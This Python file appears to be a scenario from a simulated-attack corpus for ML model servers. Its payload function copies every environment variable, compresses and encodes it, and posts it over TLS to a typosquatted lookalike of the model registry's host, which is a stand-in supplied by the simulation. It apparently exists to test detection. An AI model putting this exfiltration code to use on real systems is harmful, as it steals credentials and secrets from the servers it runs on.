"""
id: S14
name: env-harvest-post
class: quiet
phase: serve
trigger: request
evidence: [network, dns]
techniques: [T1552.001, T1082, T1041, AML.T0055, AML.T0025]
servers: [fastapi, bentoml, triton]
seconds: 10
what: >
  Copies the environment, compresses it, and posts it once over what looks like TLS to a name one letter off from the
  registry's.
"""

import base64
import json
import os
import zlib

from corpus import tls


def payload(world):
    name, _ = world.registry
    lookalike = world.lookalike(name)
    loot = base64.b64encode(zlib.compress(json.dumps(dict(os.environ)).encode()))
    loot += world.random.randbytes(world.random.randint(2048, 5120))
    request = f"POST /{world.word()} HTTP/1.1\r\nHost: {lookalike}\r\nContent-Length: {len(loot)}\r\n\r\n".encode()
    with tls.connection(lookalike, world.sink_port(), lookalike) as peer:
        peer.sendall(tls.records(request + loot))
        tls.take(peer)
